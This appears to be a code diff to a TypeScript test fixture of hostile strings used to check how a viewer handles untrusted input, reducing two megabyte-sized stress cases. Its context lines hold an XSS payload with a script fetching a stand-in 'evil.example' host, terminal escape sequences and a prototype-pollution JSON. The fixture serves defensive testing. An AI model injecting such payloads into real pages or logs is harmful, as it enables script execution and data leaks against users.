@@ -4,6 +4,8 @@
 export const MARK = 'HOSTILE';
 
 const MEGABYTE = 1_048_576;
+/** Of what costs most to look through; an event has at most a megabyte. */
+const MANY = MEGABYTE / 8;
 
 export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   'ANSI colours and a cleared screen': `\u001b[2J\u001b[1;31m${MARK}\u001b[0m 8-bit \u009b31m ${MARK}`,
@@ -32,6 +34,6 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   HTML: `<img src=x onerror=alert(1)><script>fetch("https://evil.example/${MARK}")</script></body> ${MARK}`,
   JSON: `{"__proto__":{"polluted":"${MARK}"},"constructor":"${MARK}","@message":"${MARK}"}`,
   'a line of 1 MB': `${MARK} ${'x'.repeat(MEGABYTE)} ${MARK}`,
-  '1 MB of escapes': `${MARK} ${'\u001b]'.repeat(MEGABYTE / 2)} ${MARK}`,
-  '1 MB of line breaks': `${MARK} ${'\n'.repeat(MEGABYTE)} ${MARK}`,
+  'many escapes': `${MARK} ${'\u001b]'.repeat(MANY / 2)} ${MARK}`,
+  'many line breaks': `${MARK} ${'\n'.repeat(MANY)} ${MARK}`,
 };
